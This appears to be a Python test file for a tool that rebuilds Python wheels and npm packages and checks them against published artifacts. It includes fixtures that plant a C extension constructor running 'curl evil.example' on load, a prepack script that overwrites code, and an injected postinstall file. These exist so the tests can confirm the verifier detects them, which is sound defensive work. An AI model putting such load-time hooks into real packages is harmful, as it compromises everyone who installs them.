"""Extension modules built by the compiler of this machine, and packages packed by its npm."""

from __future__ import annotations

import json
import subprocess
import tarfile
from pathlib import Path

import pytest
from msgspec.structs import replace

from packing import write_tar
from small_projects import FILES, Project, rebuild, repacked, route
from tallystick.limits import DEFAULT, MIB, Caps
from tallystick.model import Grade, RebuildOutcome, Sha256, VerdictValue
from tallystick.rebuild.comparison import compare
from tools_needed import require_tool
from trees import artifact, tree

SPEED = b"int PyInit_speed(void) { return 1; }\n"
COMPILE = """\
import subprocess
subprocess.check_call(['gcc', '-shared', '-fPIC', '-O%d', '-o', 'src/speed.so', 'speed.c'])
"""


def with_extension(optimisation: int, code: bytes = SPEED) -> Project:
    return Project.with_backend(COMPILE % optimisation, more={"speed.c": code})


def test_an_extension_module_that_comes_out_the_same_is_rebuilt(tmp_path: Path) -> None:
    require_tool("gcc")
    project = with_extension(0)
    ledger = rebuild(project.publish("wheel", tmp_path), project, tmp_path)
    (line,) = [line for line in ledger.lines if line.path == "speed.so"]
    assert line.grade is Grade.REBUILT
    assert route(ledger, "wheel-from-commit").outcome is RebuildOutcome.IDENTICAL


def test_one_of_another_compilation_stays_unproven_whatever_its_structure(tmp_path: Path) -> None:
    require_tool("gcc")
    wheel = with_extension(3).publish("wheel", tmp_path)
    ledger = rebuild(wheel, with_extension(0), tmp_path)
    (line,) = [line for line in ledger.lines if line.path == "speed.so"]
    assert not line.grade.is_proof
    assert "the published file has, and the rebuilt one has not" in (line.evidence or "") or (
        "everything that the published one imports" in (line.evidence or "")
    )
    assert ledger.verdict is not None
    assert ledger.verdict.value is not VerdictValue.ACCEPTED


def test_what_was_planted_in_an_extension_module_is_named_and_not_proven(tmp_path: Path) -> None:
    require_tool("gcc")
    planted = SPEED + (
        b"extern int system(const char *);\n"
        b'__attribute__((constructor)) static void run(void) { system("curl evil.example"); }\n'
    )
    wheel = with_extension(0, planted).publish("wheel", tmp_path)
    ledger = rebuild(wheel, with_extension(0), tmp_path)
    (line,) = [line for line in ledger.lines if line.path == "speed.so"]
    assert not line.grade.is_proof
    evidence = line.evidence or ""
    assert "imports system" in evidence
    assert "curl evil.example" in evidence
    assert evidence.count("the published file has") == 1
    assert ledger.verdict is not None
    assert ledger.verdict.value is not VerdictValue.ACCEPTED


@pytest.mark.parametrize(
    ("published", "rebuilt", "is_it"),
    [
        (b"\x7fELF1", b"\x7fELF2", True),
        (b"MZ1", b"MZ2", True),
        (b"\x7fELF1", b"\x7fELF1", False),
        (b"text 1", b"text 2", False),
        (b"text", b"\x7fELF", False),
    ],
)
def test_another_compiler_is_told_from_another_toolchain(
    published: bytes, rebuilt: bytes, is_it: bool
) -> None:
    first, second = (
        replace(artifact(tree({"a.so": content, "METADATA": text})), sha256=Sha256(text * 64))
        for content, text in ((published, "1"), (rebuilt, "2"))
    )
    assert compare(first, second, DEFAULT).is_compiled_otherwise is is_it


MANIFEST = {
    "name": "example",
    "version": "1.0.0",
    "files": ["index.js"],
    "scripts": {"prepack": "node -e \"require('fs').writeFileSync('index.js', 'evil')\""},
}
PACKAGE = {
    "package.json": json.dumps(MANIFEST, indent=2).encode() + b"\n",
    "index.js": b"module.exports = 1;\n",
}
NPM_CAPS = Caps(seconds=60, memory=1024 * MIB, disk=64 * MIB, files=5_000)


def packed(folder: Path) -> Path:
    place = folder / "package"
    place.mkdir()
    for name, content in PACKAGE.items():
        (place / name).write_bytes(content)
    command = [require_tool("npm"), "pack", "--ignore-scripts", "--offline", "--silent"]
    subprocess.run(command, cwd=place, check=True, capture_output=True)
    return place / "example-1.0.0.tgz"


def test_npm_packs_the_commit_again_and_runs_no_script_of_it(tmp_path: Path) -> None:
    ledger = rebuild(packed(tmp_path), Project(PACKAGE), tmp_path, NPM_CAPS)
    found = route(ledger, "npm-pack-from-commit")
    assert found.is_same, found
    assert ledger.verdict is not None
    assert ledger.verdict.value is VerdictValue.ACCEPTED


def test_what_was_planted_in_a_package_does_not_come_out(tmp_path: Path) -> None:
    with tarfile.open(packed(tmp_path)) as honest:
        files = {
            member.name: content.read()
            for member in honest
            if (content := honest.extractfile(member)) is not None
        }
    planted = write_tar(
        tmp_path / "example-1.0.0.tgz", {**files, "package/postinstall.js": b"evil"}
    )
    ledger = rebuild(planted, Project(PACKAGE), tmp_path, NPM_CAPS)
    assert route(ledger, "npm-pack-from-commit").missing == ("postinstall.js",)
    assert ledger.verdict is not None
    assert ledger.verdict.value is VerdictValue.REJECTED


def test_a_tarball_has_no_way_and_is_no_pass(tmp_path: Path) -> None:
    files = {f"example-1.0/{name}": content for name, content in FILES.items()}
    ledger = rebuild(write_tar(tmp_path / "example-1.0.tar.gz", files), Project(FILES), tmp_path)
    (found,) = ledger.rebuilds
    assert (found.outcome, found.step) == (RebuildOutcome.FAILED, "route")
    assert ledger.verdict is not None
    assert ledger.verdict.value is VerdictValue.INCONCLUSIVE


def test_a_wheel_without_its_compiled_file_lacks_it(tmp_path: Path) -> None:
    require_tool("gcc")
    project = with_extension(0)
    wheel = repacked(project.publish("wheel", tmp_path), {"speed.so": None})
    assert route(rebuild(wheel, project, tmp_path), "wheel-from-commit").added == ("speed.so",)
